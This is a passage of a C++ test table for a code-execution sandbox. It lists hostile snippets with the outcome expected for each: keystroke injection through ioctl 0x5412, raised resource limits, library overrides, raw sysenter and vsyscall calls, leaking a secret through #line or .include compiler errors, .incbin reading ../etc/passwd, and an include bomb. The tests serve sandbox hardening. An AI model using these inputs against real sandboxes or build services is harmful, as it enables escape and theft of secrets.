      {.name = "DumpsItsMemory", .outside = "", .inside = "raise(SIGQUIT);", .says = "killed by SIGQUIT"},
      {.name = "OutlivesTheProgram",
       .outside = "",
       .inside = "prctl(PR_SET_PDEATHSIG, 0);",
       .says = stopped("prctl")},
      {.name = "MayHaveMore",
       .outside = "",
       .inside = "static const rlimit more{RLIM_INFINITY, RLIM_INFINITY}; setrlimit(RLIMIT_AS, &more);",
       .says = stopped("prlimit64|setrlimit")},
      {.name = "HasTheKernelSignal",
       .outside = "",
       .inside = "fcntl(3, F_SETOWN, $PARENT);",
       .says = stopped("fcntl")},
      {.name = "MakesATimer",
       .outside = "",
       .inside = "timer_t t; timer_create(CLOCK_MONOTONIC, nullptr, &t);",
       .says = stopped("timer_create")},
      {.name = "SharesMemory",
       .outside = "",
       .inside = "syscall(SYS_shmget, 0, 4096, 01600);",
       .says = stopped("shmget")},
      {.name = "OpensAQueue",
       .outside = "",
       .inside = "syscall(SYS_mq_open, \"x\", 66, 0600, nullptr);",
       .says = stopped("mq_open")},
      {.name = "OpensByHandle",
       .outside = "",
       .inside = "syscall(SYS_open_by_handle_at, -100, nullptr, 0);",
       .says = stopped("open_by_handle_at")},
      {.name = "TypesIntoTheTerminal",
       .outside = "",
       .inside = "char c = 'x'; ioctl(0, 0x5412, &c);",
       .says = stopped("ioctl")},
      {.name = "PutsItselfInPlaceOfTheLibrary",
       .outside = R"(extern "C" __attribute__((visibility("default"))) void* malloc(size_t) { abort(); }
extern "C" __attribute__((visibility("default"))) ssize_t send(int, const void*, size_t, int) { abort(); })",
       .gives = kUntouched},
      {.name = "EntersTheKernelByAnotherDoor",
       .outside = "",
       .inside = "asm volatile(\"xor %eax, %eax\\n sysenter\");",
       .says = "SIG(SYS|SEGV|ILL)"},
      {.name = "CallsTheOldPage",
       .outside = "",
       .inside = "long r; asm volatile(\"call *%1\" : \"=a\"(r) : \"r\"(0xffffffffff600400ul), \"D\"(0l) : "
                 "\"rcx\", "
                 "\"r11\", \"memory\");",
       .says = "SIG(SYS|SEGV)",
       .gives = kUntouched},
      // A compiler quotes the line that it complains of, from the file that the text says it comes from.
      {.name = "SaysThatItComesFromASecret",
       .outside = "\n#line 1 \"$SECRET\"\nint x = nothing;\n",
       .says = "does not compile",
       .harm = "the secret was told"},
      {.name = "ComplainsInColour", .outside = "#error \033[31mred\033[0m", .says = "does not compile: "},
      {.name = "ComplainsWithoutEnd",
       .outside = "#if __INCLUDE_LEVEL__ < 190\n#warning " + std::string(3000, 'x') +
                  "\n#include __FILE__\n#endif\n",
       .says = "does not compile|not compiled",
       .gives = kUntouched},
      {.name = "AssemblesASecret",
       .outside = "asm(\".include \\\"$SECRET\\\"\");",
       .says = "does not compile|not compiled",
       .harm = "the secret was told"},
      {.name = "ClimbsOutOfItsFolder",
       .outside = "asm(\".incbin \\\"../../../../../../etc/passwd\\\"\");",
       .says = "does not compile|not compiled"},
      {.name = "CompilesFromTheTerminal", .outside = "#include \"/dev/tty\"", .says = refused},
  };
}

}  // namespace stridescope::engine::sandbox
